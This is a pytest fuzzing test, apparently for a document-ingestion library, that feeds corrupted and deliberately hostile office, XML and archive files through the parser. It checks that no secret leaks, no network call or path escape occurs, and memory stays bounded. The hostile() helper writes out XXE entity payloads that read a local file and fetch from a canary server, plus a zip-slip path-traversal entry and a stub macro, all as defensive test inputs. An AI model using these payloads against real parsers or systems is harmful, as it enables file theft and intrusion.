"""Three hundred damaged and hostile documents: each is read or refused, and no more happens."""

from __future__ import annotations

import io
import os
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path
from random import Random

import pytest

from encoder.errors import MediaError
from ingest import IngestConfig, Place, identify, picture, segments
from ingest.isolate import pool
from ingest.kinds.registry import kind_of
from tests.faults.test_poison import peak_kb
from tests.support import documents

pytestmark = pytest.mark.slow

MEMORY = 2 * 2**30
CONFIG = IngestConfig(isolate=True, max_decode_s=20, max_memory_bytes=MEMORY)
SECTIONS = [("Ferries", "The ferry leaves at nine."), ("Whales", "Whales were seen.")]
WRITERS = {
    ".docx": documents.write_docx,
    ".pptx": documents.write_pptx,
    ".xlsx": documents.write_xlsx,
    ".odt": documents.write_odf,
    ".ods": documents.write_odf,
    ".odp": documents.write_odf,
    ".epub": documents.write_epub,
    ".rtf": documents.write_rtf,
    ".eml": documents.write_mail,
    ".ipynb": documents.write_notebook,
    ".srt": documents.write_subtitles,
}
TEXTS = {
    ".json": '{"a": [{"b": "ferry"}, [1, 2, 3]], "c": "whale"}',
    ".xml": "<?xml version='1.0'?><a><b c='d e'>Ferry</b></a>",
    ".csv": "name,town,boat\n" + "Ann,Kiel,ferry\n" * 20,
    ".svg": "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>",
}


@pytest.fixture
def canary() -> Iterator[socket.socket]:
    """A server that nobody should call."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def samples(folder: Path) -> list[Path]:
    found = [write(folder / f"a{suffix}", SECTIONS) for suffix, write in WRITERS.items()]
    for suffix, text in TEXTS.items():
        (folder / f"a{suffix}").write_text(text)
        found.append(folder / f"a{suffix}")
    found.append(documents.write_pdf_with_picture(folder / "a.pdf", "The harbour", (200, 30, 30)))
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr("b.txt", "Foxes.")
    return [*found, folder / "a.zip"]


def damaged(data: bytes, random: Random) -> bytes:
    """Cut off, or with some bits flipped; a ZIP file is flipped within its files at times."""
    fate = random.randrange(3)
    if fate == 0:
        return data[: random.randrange(1, len(data))]
    if fate == 1 and data.startswith(b"PK"):
        return _rezipped(data, lambda part: flipped(part, random))
    return flipped(data, random)


def flipped(data: bytes, random: Random) -> bytes:
    changed = bytearray(data)
    for _ in range(random.randrange(1, 9)):
        if changed:
            changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def _rezipped(data: bytes, change: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            part = old.read(entry)
            new.writestr(entry, part if entry.filename == "mimetype" else change(part))  # type: ignore[operator]
    return out.getvalue()


def hostile(data: bytes, address: str, secret: Path) -> Iterator[bytes]:
    """With entities and links that lead outside, and a macro."""
    attack = (
        f"<!DOCTYPE x [<!ENTITY s SYSTEM 'file://{secret}'><!ENTITY % p SYSTEM '{address}/p'> %p;"
        f"<!ENTITY w SYSTEM '{address}/w'>]>"
    ).encode()
    link = f"<x xmlns:l='http://www.w3.org/1999/xlink' l:href='{address}/i.png'>&s;&w;</x>".encode()

    def with_attack(part: bytes) -> bytes:
        head, mark, body = part.partition(b"?>")
        if not mark:
            head, body = b"<?xml version='1.0'", part
        at = body.rfind(b"</")
        return head + b"?>" + attack + (body[:at] + link + body[at:] if at > 0 else body)

    if not data.startswith(b"PK"):
        yield with_attack(data)
        yield data.replace(b"ferry", f"<img src='{address}/i.png'> ferry".encode())
        return
    yield _rezipped(data, with_attack)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(600))
        archive.writestr("../../../tmp/evil.txt", "evil")
        archive.writestr("word/_rels/evil.rels", f"<a Target='{address}' TargetMode='External'/>")
    yield out.getvalue()


def test_hostile_documents_harm_nothing(tmp_path: Path, canary: socket.socket) -> None:
    random = Random(20)
    host, port = canary.getsockname()
    (tmp_path / "in").mkdir()
    (tmp_path / "secret").write_text("swordfish")
    attacked = []
    for sample in samples(tmp_path / "in"):
        whole = sample.read_bytes()
        attacked += [(sample, damaged(whole, random)) for _ in range(16)]
        address = f"http://{host}:{port}"
        attacked += [(sample, bad) for bad in hostile(whole, address, tmp_path / "secret")]
    assert len(attacked) >= 300
    before = _tree(tmp_path)
    for sample, data in attacked:
        good = sample.read_bytes()
        sample.write_bytes(data)
        _read(sample)
        sample.write_bytes(good)
    assert _tree(tmp_path) == before
    with pytest.raises(BlockingIOError):
        canary.accept()
    assert all(peak_kb(p._process.pid) * 1024 < MEMORY for p in pool._pool._idle)
    for sample in samples(tmp_path / "in"):  # what decodes after all that is as good as new
        assert list(segments(identify(sample, CONFIG), CONFIG))


def _read(path: Path) -> None:
    try:
        asset = identify(path, CONFIG)
        found = list(segments(asset, CONFIG))
        assert not any(
            "swordfish" in one.content for one in found if isinstance(one.content, str)
        ), path
        if kind_of(asset.media_type).shows:
            picture(asset, Place(), CONFIG)
    except MediaError as error:
        if not error.remedy or "crashed" in error.problem:
            raise AssertionError(f"{path}: {error!r}") from error


def _tree(folder: Path) -> set[str]:
    return {f"{root}/{name}" for root, _, names in os.walk(folder) for name in names}
